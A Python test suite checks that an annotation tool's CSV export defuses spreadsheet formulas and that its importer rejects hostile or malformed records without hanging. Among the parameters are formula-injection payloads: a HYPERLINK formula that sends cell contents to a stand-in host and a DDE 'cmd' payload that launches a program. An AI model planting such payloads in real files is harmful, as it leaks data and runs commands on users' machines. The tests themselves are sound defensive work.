"""Hostile import files and cells: formulas defused and restored, one clear line for each bad record, no hang."""

from __future__ import annotations

import csv
import io
import json
import os
import threading
from pathlib import Path

import pytest

from edu_helpers.annotations import AnnotationStore, ImportFileError, export_annotations, read_import_file, write_export
from edu_helpers.cli import main

FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_export_defuses_formulas_and_our_import_restores_them(tmp_path, report, payload):
    with AnnotationStore(tmp_path / "a.sqlite") as s:
        s.annotate(report, "双减", note=payload, tags=[payload.strip()[:30]], author=payload.strip())
        text = export_annotations(s, report, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows[1:]:
        for cell in row:  # what a spreadsheet would see: no cell starts a formula
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    path = write_export(text, tmp_path / "a.csv", "csv")
    (back,), _ = read_import_file(path)
    assert back.note == payload and back.author == payload.strip() and back.tags == (payload.strip()[:30],)


def test_an_apostrophe_we_did_not_add_is_kept(tmp_path, report):
    with AnnotationStore(tmp_path / "a.sqlite") as s:
        for note in ("'引号开头", "''=两个引号", "'=一个引号"):
            s.annotate(report, "双减", note=note)
        path = write_export(export_annotations(s, report, "csv"), tmp_path / "a.csv", "csv")
    assert sorted(a.note for a in read_import_file(path)[0]) == sorted(["'引号开头", "''=两个引号", "'=一个引号"])


@pytest.mark.parametrize("kind", ["=cmd|' /C calc'!A0", "<img src=x>", "x" * 200, "a\nb"])
def test_imported_kinds_are_checked(tmp_path, kind):
    path = tmp_path / "k.json"
    path.write_text(json.dumps([_item(kind=kind)]), encoding="utf-8")
    with pytest.raises(ImportFileError, match="record 1: kind"):
        read_import_file(path)


def test_an_unknown_plain_kind_is_kept(tmp_path):
    path = tmp_path / "k.json"
    path.write_text(json.dumps([_item(kind="同学的类型")]), encoding="utf-8")
    assert read_import_file(path)[0][0].kind == "同学的类型"


def _item(**fields) -> dict:
    start, end = fields.pop("start", 0), fields.pop("end", 2)
    item = {
        "type": "Annotation",
        "created": fields.pop("created", "2024-03-01T08:00:00Z"),
        "target": {"selector": [{"type": "TextQuoteSelector", "exact": "双减"}]},
    }
    if "kind" in fields:
        item["body"] = [{"type": "TextualBody", "value": fields.pop("kind"), "purpose": "classifying"}]
    item["target"]["selector"].append({"type": "TextPositionSelector", "start": start, "end": end})
    return item


def _cli_import(tmp_path, name: str, content: str | bytes, capsys) -> str:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    assert main(["import", str(path), "--store", str(tmp_path / "s.sqlite")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and err.count("\n") == 1 and str(path) in err, err
    return err


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"start": 0, "end": 99999999999999999999999}, ["record 2", "end", "too large"]),
        ({"created": "9999-12-31T23:59:59-14:00"}, ["record 2", "created", "9999"]),
        ({"created": "0001-01-01T00:00:00+01:00"}, ["record 2", "created"]),
    ],
    ids=["huge end", "created after 9999 in UTC", "created before year 1 in UTC"],
)
def test_out_of_range_numbers_and_times_are_one_line(tmp_path, capsys, fields, words):
    err = _cli_import(tmp_path, "bad.json", json.dumps([_item(), _item(**fields)]), capsys)
    for word in words:
        assert word in err


def test_json_nested_100000_deep_is_one_line(tmp_path, capsys):
    err = _cli_import(tmp_path, "deep.json", "[" * 100_000 + "]" * 100_000, capsys)
    assert "nested too deeply" in err


def test_a_csv_field_over_131072_characters_imports(tmp_path, report):
    note = "很长的笔记。" * 25_000  # 150,000 characters
    with AnnotationStore(tmp_path / "a.sqlite") as s:
        s.annotate(report, "双减", note=note)
        path = write_export(export_annotations(s, report, "csv"), tmp_path / "long.csv", "csv")
    (back,), _ = read_import_file(path)
    assert back.note == note
    assert csv.field_size_limit() == 131_072  # the process-wide limit is left as it was


@pytest.mark.parametrize("make", ["fifo", "device", "folder"])
def test_only_regular_files_are_imported_and_nothing_hangs(tmp_path, make, capsys):
    target = {"fifo": tmp_path / "pipe.jsonld", "device": Path("/dev/zero"), "folder": tmp_path / "dir.jsonld"}[make]
    if make == "fifo":
        os.mkfifo(target)
    elif make == "folder":
        target.mkdir()
    codes: list[int] = []
    worker = threading.Thread(
        target=lambda: codes.append(main(["import", str(target), "--store", str(tmp_path / "s.sqlite")])), daemon=True
    )
    worker.start()
    worker.join(20)
    if worker.is_alive():
        if make == "fifo":
            os.close(os.open(target, os.O_WRONLY | os.O_NONBLOCK))
        pytest.fail(f"importing a {make} hung")
    assert codes == [2]
    err = capsys.readouterr().err
    assert str(target) in err and err.count("\n") == 1
